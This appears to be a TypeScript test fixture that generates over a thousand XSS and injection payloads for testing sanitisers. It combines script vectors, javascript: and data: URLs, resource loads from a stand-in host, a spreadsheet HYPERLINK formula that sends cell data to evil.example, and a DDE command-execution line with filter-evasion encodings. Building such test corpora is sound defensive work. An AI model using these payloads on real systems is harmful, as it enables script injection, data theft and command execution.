/** Called by every payload that runs. Whoever shows payloads traps it. */
const TRAP = "alert";
const RUN = `${TRAP}(1)`;
/** Asked for by every payload that loads something. */
export const FOREIGN = "https://evil.example";

/** What would run or load something if it became markup, an address or code where it stands. */
const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FOREIGN}/x.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${FOREIGN}/pixel.png">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><style><img title="</style><img src=x onerror=${RUN}>"></style></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${FOREIGN}/o.swf"></object>`,
  `<embed src="${FOREIGN}/e.svg">`,
  `<video><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<a href="javascript:${RUN}">go</a>`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
  `<link rel="stylesheet" href="${FOREIGN}/s.css">`,
  `<style>@import url(${FOREIGN}/i.css);*{background:url(${FOREIGN}/b.png)}</style>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `[go](javascript:${RUN})`,
  `![x](${FOREIGN}/md.png)`,
  `[go](data:text/html,<script>${RUN}</script>)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `=HYPERLINK("${FOREIGN}?"&A1,"go")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** Ways to hide it from whoever looks for it, and to be found by whoever decodes it. */
const encodings: Record<string, (text: string) => string> = {
  plain: (text) => text,
  "upper case": (text) => text.replace(/<\/?[a-z]+|javascript|data|vbscript/g, (word) => word.toUpperCase()),
  entities: (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  "decimal entities": (text) => text.replace(/[<>:]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  "percent signs": (text) => text.replace(/[<>":]/g, (sign) => encodeURIComponent(sign)),
  "a tab in the scheme": (text) => text.replace("javascript:", "java\tscript:").replace("<script", "<script\t"),
  "a null in the word": (text) => text.replace("script", "scr\u0000ipt"),
  "a slash for a space": (text) => text.replace(/(<[a-z]+) /g, "$1/"),
  "full width": (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
};

/** What would end the place where it stands: an attribute, an element, a comment, a string, JSON, Markdown's code. */
const contexts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `' ${text} x='`,
  (text) => `</textarea></title></style></script>${text}`,
];

/** Every vector in every encoding and context, each once: more than a thousand. */
export const payloads: readonly string[] = [
  ...new Set(
    vectors.flatMap((vector) =>
      Object.values(encodings).flatMap((encode) => contexts.map((within) => within(encode(vector)))),
    ),
  ),
];
